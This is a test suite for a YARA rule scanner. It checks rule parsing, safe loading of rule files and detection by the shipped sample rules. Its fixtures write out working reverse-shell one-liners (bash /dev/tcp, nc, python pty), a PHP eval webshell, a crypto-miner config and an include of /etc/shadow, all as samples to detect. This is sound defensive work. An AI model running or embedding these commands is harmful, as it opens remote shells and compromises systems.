import assert from "node:assert/strict";
import { Libyara } from "../../ffi/libyara.ts";
import { loadLibyara } from "../../src/scanners/yara/engine.ts";
import { ruleHeaders } from "../../src/scanners/yara/headers.ts";
import { compileRuleSet, readRuleFiles } from "../../src/scanners/yara/rule_files.ts";
import { makeTree, repoPath } from "../helpers.ts";
import { needs } from "../host_caps.ts";

const SAMPLE_RULES = repoPath("rules/yara");
const enc = (s: string) => new TextEncoder().encode(s);
const LOADED = loadLibyara();
function lib(): Libyara {
  if (!LOADED.ok) throw new Error(LOADED.reason);
  return LOADED.lib;
}

Deno.test("ruleHeaders: names and lines past modifiers and tags; comments, strings and regexes are skipped", () => {
  const src = `import "pe"
// rule commented_out : x { condition: true }
/* rule also_not { condition: true }
   spanning lines */
private rule helper { strings: $a = "rule fake : t {" condition: $a }
global private rule g { condition: filesize < 10MB }
rule tagged : APT mal_ware
{
  meta:
    note = "braces { inside } strings"
  strings:
    $r = /a\\{2,\\}\\/rule x {/ nocase
    $h = { 4D 5A ?? [2-4] ( 90 | 91 ) }
  condition:
    helper and $r and $h and pe.exports(/rule y {/) and filesize / 2 > 10
}
rule last{condition:true}`;
  assert.deepEqual(ruleHeaders(src), [
    { name: "helper", line: 5 },
    { name: "g", line: 6 },
    { name: "tagged", line: 7 },
    { name: "last", line: 17 },
  ]);
});

Deno.test("ruleHeaders: empty, garbage and truncated input never throw", () => {
  assert.deepEqual(ruleHeaders(""), []);
  assert.deepEqual(ruleHeaders("\x00\xff}}}{{{ /* unterminated"), []);
  assert.deepEqual(ruleHeaders('rule cut : a b { strings: $a = "unterminated'), [{ name: "cut", line: 1 }]);
});

Deno.test("readRuleFiles: a file, a directory (sorted, other files ignored), and clear errors", () => {
  using t = makeTree({
    "rules/b.yara": "rule b { condition: true }\n",
    "rules/a.yar": "rule a { condition: true }\n",
    "rules/readme.txt": "not rules\n",
    "rules/.hidden.yar": "rule hidden { condition: true }\n",
    "empty/x.txt": "",
    "single.yar": "rule s { condition: true }\n",
  });
  const dir = readRuleFiles(`${t.path}/rules`, false);
  assert.deepEqual(dir.errors, []);
  assert.deepEqual(dir.files.map((f) => f.path.slice(t.path.length)), ["/rules/a.yar", "/rules/b.yara"]);
  assert.deepEqual(readRuleFiles(`${t.path}/single.yar`, false).files.length, 1);
  assert.match(readRuleFiles(`${t.path}/nope`, false).errors[0], /does not exist/);
  assert.match(readRuleFiles(`${t.path}/empty`, false).errors[0], /no \*\.yar or \*\.yara files/);
});

Deno.test("readRuleFiles: a rule file writable by others is refused unless --rules-insecure-ok", () => {
  using t = makeTree({ "open.yar": { content: "rule o { condition: true }\n", mode: 0o666 } });
  const refused = readRuleFiles(`${t.path}/open.yar`, false);
  assert.equal(refused.files.length, 0);
  assert.match(refused.errors[0], /writable by group and others.*--rules-insecure-ok/);
  const accepted = readRuleFiles(`${t.path}/open.yar`, true);
  assert.equal(accepted.files.length, 1);
  assert.match(accepted.warnings[0], /accepted because of --rules-insecure-ok/);
});

Deno.test(needs(["libyara"], {
  name:
    "compileRuleSet: errors name the file and line; duplicates across files are caught; rules know their file",
  fn: () => {
    const good = { path: "/r/good.yar", text: "rule one : t { condition: true }\n" };
    const bad = {
      path: "/r/bad.yar",
      text: 'rule two {\n  strings:\n    $a = "x"\n  condition:\n    $b\n}\n',
    };
    const broken = compileRuleSet(lib(), [good, bad]);
    assert.ok(!broken.ok);
    // libyara reports the line where the parser noticed: the end of the condition.
    assert.deepEqual(broken.errors, ['/r/bad.yar:6: undefined string "$b"']);
    const syntax = compileRuleSet(lib(), [{ path: "/r/syntax.yar", text: "rule {\n" }]);
    assert.ok(!syntax.ok);
    assert.match(syntax.errors[0], /^\/r\/syntax\.yar:1: syntax error/);
    const dup = compileRuleSet(lib(), [good, {
      path: "/r/dup.yar",
      text: "\n\nrule one { condition: false }\n",
    }]);
    assert.ok(!dup.ok);
    assert.match(dup.errors[0], /^\/r\/dup\.yar:3: duplicated identifier "one"/);
    const compiled = compileRuleSet(lib(), [good, {
      path: "/r/w.yar",
      text: 'private rule w { strings: $a = "a" condition: $a }\nrule uses_w { condition: w and one }',
    }]);
    assert.ok(compiled.ok);
    using set = compiled.set;
    assert.deepEqual(set.rules.rules.map((r) => [r.name, r.tags, set.fileOf.get(r.name)]), [
      ["one", ["t"], "/r/good.yar"],
      ["w", [], "/r/w.yar"],
      ["uses_w", [], "/r/w.yar"],
    ]);
    assert.match(set.warnings[0], /^\/r\/w\.yar:1: .*slow down scanning/);
  },
}));

Deno.test(needs(["libyara"], {
  name: "the shipped sample rules compile, catch real artefacts and leave ordinary programs alone",
  fn: () => {
    const read = readRuleFiles(SAMPLE_RULES, false);
    assert.deepEqual(read.errors, []);
    const compiled = compileRuleSet(lib(), read.files);
    assert.ok(compiled.ok, JSON.stringify(compiled));
    using set = compiled.set;
    using scanner = set.rules.scanner();
    const hit = (data: string | Uint8Array) => {
      const r = scanner.scan(typeof data === "string" ? enc(data) : data, 30);
      assert.ok(r.ok);
      return r.matches.map((m) => m.rule.name);
    };
    assert.deepEqual(hit("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), ["reverse_shell_oneliner"]);
    assert.deepEqual(hit("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f"), [
      "reverse_shell_oneliner",
    ]);
    assert.deepEqual(hit("nc -nv -e /bin/bash 10.0.0.1 4444"), ["reverse_shell_oneliner"]);
    assert.deepEqual(
      hit(
        `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);` +
          `s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);import pty; pty.spawn("/bin/sh")'`,
      ),
      ["reverse_shell_oneliner"],
    );
    assert.deepEqual(
      hit('{"donate-level": 1, "pools": [{"url": "pool.example.net:3333", "algo": "rx/0"}]}'),
      [
        "xmrig_miner_config",
      ],
    );
    assert.deepEqual(hit("<?php @eval(base64_decode($_POST['x'])); ?>"), ["php_webshell_eval_input"]);
    assert.deepEqual(hit("echo 'use /dev/tcp for bash redirection'; bash -i"), []);
    assert.deepEqual(hit('{"pools": "swimming", "donate-level": "none"}'), []);
    for (const bin of ["/usr/bin/ls", "/usr/bin/bash", "/usr/bin/nc.openbsd", "/usr/bin/python3"]) {
      let data: Uint8Array;
      try {
        data = Deno.readFileSync(bin);
      } catch {
        continue;
      }
      assert.deepEqual(hit(data), [], bin);
    }
  },
}));

Deno.test("readRuleFiles: a rule file that is a symlink (to /dev/zero or elsewhere), a FIFO or a device is refused at once", () => {
  using t = makeTree({
    "rules/ok.yar": "rule ok { condition: true }\n",
    "rules/zero.yar": { symlink: "/dev/zero" },
    "rules/link.yar": { symlink: "ok.yar" },
    "zero.yar": { symlink: "/dev/zero" },
  });
  const fifo = new Deno.Command("mkfifo", { args: [`${t.path}/rules/fifo.yar`, `${t.path}/fifo.yar`] })
    .outputSync();
  assert.ok(fifo.success);
  const t0 = performance.now();
  const dir = readRuleFiles(`${t.path}/rules`, false);
  assert.deepEqual(dir.files.map((f) => f.path.slice(t.path.length)), ["/rules/ok.yar"]);
  assert.deepEqual(dir.errors.map((e) => e.slice(t.path.length)).sort(), [
    "/rules/fifo.yar: not a regular file (symlinks and special files are not read)",
    "/rules/link.yar: not a regular file (symlinks and special files are not read)",
    "/rules/zero.yar: not a regular file (symlinks and special files are not read)",
  ]);
  for (const path of [`${t.path}/zero.yar`, `${t.path}/fifo.yar`, "/dev/zero", "/dev/null"]) {
    const r = readRuleFiles(path, true);
    assert.deepEqual(r.files, [], path);
    assert.match(r.errors[0], /not a regular file/, path);
  }
  assert.ok(performance.now() - t0 < 2000, "nothing blocked on a FIFO or read a device");
});

Deno.test(needs(["libyara"], {
  name:
    "compileRuleSet: a NUL byte, an include, or garbage in a rule file is an error with its file and line",
  fn: () => {
    const cases: [string, RegExp][] = [
      [
        "rule a { condition: true }\n\0rule b { condition: true }\n",
        /^\/r\/x\.yar:2: NUL byte in the rule source$/,
      ],
      ['\ninclude "/etc/shadow"\nrule a { condition: true }\n', /^\/r\/x\.yar:2: includes are disabled$/],
      ["\u00ff\u00fe }}} rule", /^\/r\/x\.yar:1: /],
      ["rule a { strings: $a = { 4D 5A ?? [999999999-] } condition: $a }", /^\/r\/x\.yar:1: /],
    ];
    for (const [text, want] of cases) {
      const r = compileRuleSet(lib(), [{ path: "/r/x.yar", text }]);
      assert.ok(!r.ok, text);
      assert.match(r.errors[0], want);
    }
  },
}));
